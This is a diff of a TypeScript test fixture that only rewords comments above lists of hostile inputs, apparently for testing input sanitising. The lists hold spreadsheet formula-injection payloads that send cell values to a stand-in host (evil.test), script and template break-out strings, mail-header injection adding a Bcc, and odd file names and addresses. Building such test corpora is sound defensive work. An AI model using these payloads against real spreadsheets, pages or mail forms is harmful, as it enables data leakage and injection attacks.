@@ -1,4 +1,4 @@
-/** What spreadsheets run when a cell begins with it, as OWASP lists it: also full width signs, and behind a separator of other countries. */
+/** Cell prefixes spreadsheets run as formulas, as OWASP lists them: also full width signs, and after other countries' separators. */
 const FORMULAS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
@@ -28,7 +28,7 @@ const FORMULAS: readonly string[] = [
   '=IMPORTXML(CONCAT("http://evil.test/?v=",A1),"//a")',
 ]
 
-/** What ends a header, an element, a script or a text somewhere. */
+/** Texts that end a header, an element, a script or a string. */
 const BREAK_OUTS: readonly string[] = [
   '</script><script>smuggled(1)</script>',
   '</SCRIPT ><script>smuggled(1)</script>',
@@ -43,16 +43,16 @@ const BREAK_OUTS: readonly string[] = [
   '</title><svg/onload=smuggled(1)>',
   '&lt;/script&gt;&#60;script&#62;smuggled(1)',
   '{{constructor.constructor("smuggled(1)")()}}',
-  // What a template engine would run; in one piece it would look like a template of ours.
+  // Template engine syntax; written in parts, so that it does not look like one of our own templates.
   `$${'{smuggled(1)}'}`,
   '</style><style>*{display:none}',
   'javascript:smuggled(1)',
 ]
 
-/** Line breaks and what some program somewhere takes for one. */
+/** Line breaks, and what some programs treat as one. */
 const LINE_ENDS = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u000b', '\u000c', '%0d%0a', '=0D=0A', '\\r\\n'] as const
 
-/** Words for a line of a mail that want to be more than that. */
+/** Texts that try to add lines to a mail header. */
 const HEADER_BREAKS: readonly string[] = LINE_ENDS.flatMap((end) => [
   `Ada${end}Bcc: smuggled@evil.test`,
   `Ada${end}${end}<script>smuggled(1)</script>`,
@@ -79,7 +79,7 @@ const ODD_NAMES: readonly string[] = [
   '..',
 ]
 
-/** Addresses that are none, are several, or speak to a mail server. */
+/** Addresses that are invalid, multiple, or mail server commands. */
 const ODD_ADDRESSES: readonly string[] = [
   'a@one.test, b@evil.test',
   'a@one.test;b@evil.test',
@@ -131,10 +131,10 @@ const ALL = {
   oddAddresses: ODD_ADDRESSES,
 } as const
 
-/** What is typed where, by its purpose. */
+/** Hostile input by purpose. */
 export type Corpora = Readonly<Record<keyof typeof ALL, readonly string[]>>
 
-/** All of it, or every so manieth of each kind. */
+/** All inputs, or every nth of each kind. */
 export function corporaOf(every = 1): Corpora {
   const some = (words: readonly string[]) => words.filter((_, at) => at % every === 0)
   return {
